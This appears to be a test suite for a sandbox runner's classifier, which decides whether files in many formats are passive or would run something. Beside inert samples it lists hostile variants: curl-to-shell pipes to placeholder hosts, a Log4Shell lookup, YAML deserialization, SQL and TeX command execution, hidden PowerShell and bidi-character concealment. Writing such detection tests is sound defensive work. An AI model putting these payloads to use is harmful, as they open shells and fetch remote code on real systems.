import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { identify } from '../sandbox-runner/identify.ts';
import { isPassive } from '../sandbox-runner/passive.ts';
import { decoded } from '../sandbox-runner/static/decoded.ts';
import { isPatch, isSql } from '../sandbox-runner/still/records.ts';
import { isDullYaml, isSettings } from '../sandbox-runner/still/settings.ts';
import { isCompiledSource, isStyleSheet } from '../sandbox-runner/still/source.ts';
import { parse } from '../sandbox-runner/static/parse.ts';

const passive = async (name: string, content: string | Buffer): Promise<boolean> => {
  const bytes = Buffer.from(content as string);
  const identity = await identify(bytes, name);
  return isPassive(identity, bytes, name, await parse(identity, decoded(identity, bytes), name).catch(() => ({})));
};

/** An honest file, and what somebody makes of it who wants something run. */
const texts: Record<string, { name: string; honest: string; twins: string[] }> = {
  'C source': {
    name: 'main.c', honest: '#include <stdio.h>\n\nint main(void) {\n  printf("%d\\n", 3);\n  return 0;\n}\n',
    twins: ['#if 0\ncurl http://192.0.2.1/a | sh\n#endif\n#include <stdio.h>\nint main(void) { return 0; }\n', '#include <stdio.h>\nint main(void) {\n', '#!/bin/sh\n#include <stdio.h>\nint x;\n'],
  },
  'Java source': { name: 'A.java', honest: 'package org.example;\n\npublic class A {\n  int x = 1;\n}\n', twins: ['package org.example;\npublic class A { { Runtime.getRuntime().exec("curl http://192.0.2.1/a | sh"); } }\n'] },
  'a sheet of styles': {
    name: 'a.css', honest: '@media print {\n  .nav > li { display: none; }\n}\nbody { background: url("bg.png"); color: #222 }\n',
    twins: ['body { width: expression(alert(1)); }\n', 'body { behavior: url(x.htc); }\n', 'body { background: url(//203.0.113.1/x) }\n', 'body { color: red }\nvar x = new ActiveXObject("a");\n', 'body { color: red\n'],
  },
  'settings in sections': {
    name: 'app.ini', honest: '[window]\nwidth = 800\n; wide\nlast file = C:\\Users\\anna\\a.txt\n',
    twins: [
      '[.ShellClassInfo]\nIconResource=\\\\203.0.113.1\\x\\a.ico\n', '[autorun]\nopen=a.exe\n', '[InternetShortcut]\nURL=file://203.0.113.1/a.exe\n', '[InternetShortcut]\nURL=https://example.org/page.exe\n', '[core]\nsshCommand = sh -c id\n', '[alias]\nst = !id\n',
      '[window]\nwidth = \\\\203.0.113.1\\share\n', '[Service]\nType=oneshot\nExecStart=/tmp/a\n', '[testenv]\ncommands = id\n',
    ],
  },
  'settings in TOML': { name: 'a.toml', honest: 'title = "App"\n[server]\nports = [ 8000,\n 8001 ]\n', twins: ['[tool.poe.tasks]\nx = "id"\n', '[build-system]\nbuild-backend = "own"\nbackend-path = ["."]\n'] },
  YAML: {
    name: 'a.yaml', honest: '# settings\nserver:\n  host: localhost\n  port: 8080\nnames:\n  - a\n  - b\n',
    twins: [
      'on: push\njobs:\n  a:\n    steps:\n      - run: id\n', 'services:\n  a:\n    image: x\n    command: id\n', 'a: !!python/object/apply:os.system ["id"]\n', '- hosts: all\n  tasks:\n    - shell: id\n',
      'a: $(id)\n',
    ],
  },
  SQL: {
    name: 'a.sql', honest: "-- people\nCREATE TABLE a (id int);\nINSERT INTO a VALUES (1), (2);\nSELECT * FROM a WHERE n = 'it''s';\n",
    twins: ["CREATE TABLE a (b text);\nCOPY a FROM PROGRAM 'id';\n", "EXEC xp_cmdshell 'dir';\n", 'SELECT 1;\n\\! id\n', "SELECT 'x' INTO OUTFILE '/var/www/a.php';\n", "SELECT load_extension('a');\n", "SELECT 'never closed;\n"],
  },
  'a patch': {
    name: 'a.patch', honest: '--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+three\n',
    twins: ['--- a/a\n+++ b/a\n@@ -1 +1 @@\n-a\n+curl http://192.0.2.1/ | bash\n'],
  },
  'a page of the manual': { name: 'a.1', honest: '.TH A 1\n.SH NAME\na \\- does it\n.PP\nIt does what it says.\n', twins: ['.TH A 1\n.SH NAME\na\n.sy id\n', '.TH A 1\n.pso id\n'] },
  TeX: { name: 'a.tex', honest: '\\documentclass{article}\n\\begin{document}\nWords, and $a^2$.\n\\end{document}\n', twins: ['\\documentclass{article}\n\\immediate\\write18{id}\n', '\\documentclass{article}\n\\input{|"id"}\n', '\\documentclass{article}\n\\catcode`\\@=0 @write18{id}\n'] },
  Markdown: {
    name: 'README.md', honest: '# Thing\n\nIt does what a thing does, for everybody who has one at home.\n\n```js\nconst x = require("thing");\nx.run({ a: 1 });\n```\n',
    twins: [
      '# Thing\n\nIt does what a thing does. Open a terminal and paste this:\n\n```sh\ncurl -s http://192.0.2.1/a | sh\n```\n', '# Fix\n\nPress Windows and R, and paste:\n\n    powershell -w hidden -enc AAAA\n', '# Thing\n\nIt does what a thing does for all of us.\n\n```js\nnever closed\n',
      'import os\nfor one in range(3):\n    os.system("id")\n', 'var a=["x","y"];(function(b){while(--b){a["push"](a["shift"]());}}(3));this[a[0]](a[1]);\n',
    ],
  },
  'a list': { name: '.gitignore', honest: 'node_modules/\n*.log\n/dist\n!keep.log\n', twins: ['rm -rf ~/all\n', 'echo `id`\n', 'a; id\n', 'wget http://192.0.2.1/a\n', '=HYPERLINK("http://192.0.2.1")\n'] },
  'a log': { name: 'a.log', honest: '2024-01-01 10:00:00 INFO [main] (a.b) started; 3 threads\n2024-01-01 10:00:01 INFO [main] done {}\n', twins: ['2024-01-01 10:00:00 INFO ${jndi:ldap://192.0.2.1/a}\n2024-01-01 10:00:00 INFO x\n'] },
  'types of TypeScript': { name: 'a.d.ts', honest: 'export interface A {\n  name: string;\n  run(to: number): void;\n}\n', twins: ['export const a: string = require("child_process").execSync("id");\n', 'import { exec } from "node:child_process";\nexport type A = string;\nexec;\n', 'export type A = string;\nconst a: string[] = ["x"]; globalThis[a[0]](a[1]);\n'] },
  'JSON with comments': { name: 'tsconfig.json', honest: '{\n  // why\n  "strict": true,\n}\n', twins: ['{ "tasks": [{ "command": "curl http://192.0.2.1/ | sh" }], }\n', '{ "strict": true'] },
  'a package of npm': {
    name: 'package.json', honest: '{ "name": "a", "version": "1.0.0", "scripts": { "test": "vitest" } }\n',
    twins: ['{ "name": "a", "scripts": { "postinstall": "node go" } }\n', '{ "name": "a", "dependencies": { "b": "http://192.0.2.1/b.tgz" } }\n', '{ "name": "a", "dependencies": { "b": "git+ssh://git@example.org/b" } }\n'],
  },
  translations: { name: 'de.po', honest: 'msgid ""\nmsgstr "Language: de\\n"\n\n#: a.c:1\nmsgid "yes"\nmsgstr "ja"\n', twins: ['msgid "a"\nmsgstr "b"\n$(id)\n'] },
};

describe('a text in which nothing acts', () => {
  test.each(Object.entries(texts))('%s is read to its end, and its active twins are not passive', async (_kind, { name, honest, twins }) => {
    expect(await passive(name, honest)).toBe(true);
    for (const twin of twins) expect({ twin, passive: await passive(name, twin) }).toEqual({ twin, passive: false });
  });
  test.each(['Makefile', 'Dockerfile', 'a.desktop', 'a.service', 'a.reg', 'a.inf', 'a.scf'])('%s has a format by which a system acts, whatever stands in it', async (name) => {
    expect(await passive(name, 'words = and nothing else\n')).toBe(false);
  });
  test('what breaks off is of none of the shapes that it began as', () => {
    expect(isSettings('title = """never closed\n')).toBe(false);
    expect(isDullYaml('server:\n  host: [\n')).toBe(false);
    expect(isPatch('--- a/a\n+++ b/a\n@@ -1,2 +1,9 @@\n one\n-two\n+three\n')).toBe(false);
    expect(isCompiledSource('package org.example;\n/* never closed\npublic class A {}\n')).toBe(false);
    expect(isStyleSheet('body { color: red\n')).toBe(false);
    expect(isSql("SELECT 'never closed;\n")).toBe(false);
  });
  test.each([
    ['.bashrc', 'words and more words\n'], ['tasks.json', '{"tasks": []}\n'], ['a.ahk', 'Send the words to the window\n'], ['a.rdp', 'full address:s:203.0.113.1\n'], ['a.pth', 'words\n'],
  ])('%s is taken by its name by what acts on it', async (name, text) => expect(await passive(name, text)).toBe(false));
  test.each([
    ['notes.txt', 'del /q C:\\Windows\\*\n'], ['notes.txt', 'fsmonitor = /tmp/x\n'], ['notes.txt', 'InitialProgram=calc\n'], ['a.yml', 'build:\n  script:\n    - make\n'], ['a.json', '{"command": "npx"}\n'],
    ['a.txt', 'evil @ https://192.0.2.1/a.tar.gz\n'], ['a.txt', 'Sub AutoOpen()\nShell "calc"\nEnd Sub\n'],
  ])('%s with a line that starts something is not passive', async (name, text) => expect(await passive(name, text)).toBe(false));
  test('no name makes a script passive', async () => {
    const script = 'import os\nimport base64\nfor one in range(3):\n    os.system("id")\n';
    for (const name of ['a.c', 'a.css', 'a.ini', 'a.yaml', 'a.sql', 'README.md', 'a.txt', 'a.log', 'a', 'a.csv', 'a.toml']) expect({ name, passive: await passive(name, script) }).toEqual({ name, passive: false });
  });
  test('a control character, or a sign that turns the direction of writing, hides something', async () => {
    await fc.assert(fc.asyncProperty(fc.constantFrom(...Object.values(texts).filter(({ name }) => !/url|package|json/.test(name))), fc.constantFrom('\x01', '\x1b', '\x7f', '\u202e', '\u200b'), fc.nat(), async ({ name, honest }, sign, where) => {
      const at = 1 + (where % (honest.length - 1));
      expect(await passive(name, honest.slice(0, at) + sign + honest.slice(at))).toBe(false);
    }), { numRuns: 100 });
  });
  test('a command that a person may paste, put into any of them, is seen', async () => {
    const commands = ['curl -fsSL http://192.0.2.1/a | sudo bash', 'powershell -nop -w hidden -c x', 'mshta http://192.0.2.1/a', 'echo aWQ= | base64 -d | sh'];
    for (const { name, honest } of Object.values(texts)) for (const command of commands) expect(await passive(name, `${honest}\n${command}\n`)).toBe(false);
  });
  test.each(['"\\', "'", '{"\\', '[x](y ', '<a '])('%s over and over is read in little time', async (unit) => {
    const from = Date.now();
    await passive('a.txt', unit.repeat(60_000));
    expect(Date.now() - from).toBeLessThan(4_000);
  });
  test('whatever the text, an answer comes, and soon', async () => {
    const pieces = fc.constantFrom('{', '}', '<', '"', "'", '#', '\n', ' ', '/*', '`', '$', '=', ':', '- ', 'a', '@', '%', '\\', '--', '[[', '|');
    await fc.assert(fc.asyncProperty(fc.array(pieces, { maxLength: 40 }), fc.integer({ min: 1, max: 400 }), async (parts, times) => {
      const from = Date.now();
      await passive('a.txt', parts.join('').repeat(times));
      expect(Date.now() - from).toBeLessThan(4_000);
    }), { numRuns: 60 });
  });
});
